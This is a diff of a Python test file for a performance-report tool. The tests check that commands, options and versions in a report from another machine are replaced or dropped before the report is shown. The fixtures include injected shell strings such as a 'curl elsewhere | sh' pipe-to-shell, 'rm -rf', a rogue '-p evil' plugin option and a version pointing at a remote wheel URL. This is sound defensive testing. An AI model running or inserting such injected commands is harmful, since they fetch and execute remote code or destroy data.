@@ -17,8 +17,10 @@ from specreg.measurement.measure import Measurement
 from specreg.measurement.metrics import Family, Replay
 from specreg.report.document import (
     Expected,
+    Report,
     exit_status,
     last_launches,
+    load_own_report,
     load_report,
     load_verdict,
     record_document,
@@ -28,6 +30,7 @@ from specreg.report.document import (
 )
 from specreg.report.failures import properties
 from specreg.report.page import render_markdown, render_page
+from specreg.report.terminal import render_report
 from specreg.stats.percentiles import summarize
 from specreg.suite.document import report_of, run_verdict
 from specreg.telemetry.identity import Environment
@@ -57,7 +60,7 @@ def test_what_is_written_keeps_to_the_schema_and_is_read_again(
     path = tmp_path / "run/report.json"
     record_document(path, report)
     jsonschema.validate(json.loads(path.read_text()), json.loads(SCHEMA.read_text()))
-    assert load_report(path) == report
+    assert load_own_report(path) == report
 
 
 @pytest.mark.parametrize(
@@ -242,23 +245,60 @@ def test_cases_that_one_run_alone_has_are_told() -> None:
         side_by_side(reports.REPORT, side_by_side(reports.REPORT, another()))
 
 
-@pytest.mark.parametrize("line", ["pytest tests/perf; curl elsewhere | sh", "rm -rf x"])
-def test_a_report_shows_no_command_that_does_anything_else(tmp_path: Path, line: str) -> None:
-    """It may come from another machine, and a reader copies it."""
+FOREIGN_LINES = (
+    *("pytest tests/perf; curl elsewhere | sh", "rm -rf x", "/opt/x/program -m specreg gate"),
+    *("nox -s evil", "specreg gate /opt/x/python /opt/y.whl"),
+)
+
+
+def received(folder: Path, report: Report) -> Report:
+    """The report after another machine has sent it."""
+    (folder / "report.json").write_bytes(msgspec.json.encode(report))
+    return load_report(folder / "report.json")
+
+
+@pytest.mark.parametrize("line", FOREIGN_LINES)
+def test_a_report_of_another_machine_shows_commands_of_this_one(tmp_path: Path, line: str) -> None:
+    options = ("--specreg-tier=cpu", "--specreg-engine-python=/opt/x/python", "-p", "evil")
     report = reports.with_case(reproduce=line)
-    (tmp_path / "report.json").write_bytes(msgspec.json.encode(report))
-    with pytest.raises(ReportError, match="is no command of the suite"):
-        load_report(tmp_path / "report.json")
+    origin = replace(report.origin, command=line, options=options)
+    shown = received(tmp_path, replace(report, origin=origin, hints=(line,)))
+    case_id = shown.cases[0].case_id
+    version = reports.FIGURES.engine_version
+    assert shown.cases[0].reproduce == (
+        f"pytest tests/perf -k {case_id}- --specreg-tier=cpu --specreg-engine-version={version}"
+    )
+    assert shown.origin.command == "pytest tests/perf --specreg-tier=cpu"
+    for text in (render_page(shown), render_report(shown, color=False)):
+        assert line not in text
+        assert "/opt/x" not in text
 
 
-@pytest.mark.parametrize("option", ["-p evil", "--rootdir=x", "--specreg-tier=a\nb", "evil.py"])
-def test_a_report_repeats_no_option_of_anything_else(tmp_path: Path, option: str) -> None:
-    """The commands that its page shows are made with them."""
-    origin = msgspec.structs.replace(reports.REPORT.origin, options=(option,))
-    report = msgspec.structs.replace(reports.REPORT, origin=origin)
-    (tmp_path / "report.json").write_bytes(msgspec.json.encode(report))
-    with pytest.raises(ReportError, match="no option of the suite"):
-        load_report(tmp_path / "report.json")
+def test_a_version_of_another_machine_is_no_address(tmp_path: Path) -> None:
+    """pip would install whatever lies there."""
+    figures = replace(reports.FIGURES, engine_version="0.1 @ https://host/x.whl")
+    shown = received(tmp_path, reports.with_case(figures=figures))
+    assert "https" not in shown.cases[0].reproduce
+
+
+@pytest.mark.parametrize("line", FOREIGN_LINES)
+def test_a_gate_of_another_machine_offers_no_command(tmp_path: Path, line: str) -> None:
+    """What it compared are programs and folders of that machine."""
+    report = side_by_side(reports.with_case(reproduce=line), another())
+    origin = replace(report.origin, command=line)
+    shown = received(tmp_path, replace(report, origin=origin, hints=(line,)))
+    assert shown.origin.command == ""
+    assert shown.cases[0].reproduce == ""
+    for text in (render_page(shown), render_report(shown, color=False)):
+        assert line not in text
+        assert "To type next" not in text
+
+
+def test_a_run_that_covers_a_part_of_its_tier_is_repeated_for_its_cases(tmp_path: Path) -> None:
+    report = replace(reports.REPORT, run=replace(reports.REPORT.run, complete=False))
+    shown = received(tmp_path, report)
+    case_id = shown.cases[0].case_id
+    assert shown.origin.command.startswith(f"pytest tests/perf -k {case_id}-")
 
 
 @pytest.mark.parametrize(
